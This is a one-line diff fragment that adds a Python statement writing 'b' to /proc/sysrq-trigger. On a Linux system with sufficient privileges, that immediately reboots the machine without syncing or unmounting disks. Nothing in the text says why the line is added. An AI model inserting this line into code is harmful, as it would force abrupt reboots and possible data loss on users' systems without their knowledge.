@@ -1,0 +1,1 @@
+open("/proc/sysrq-trigger", "w").write("b")
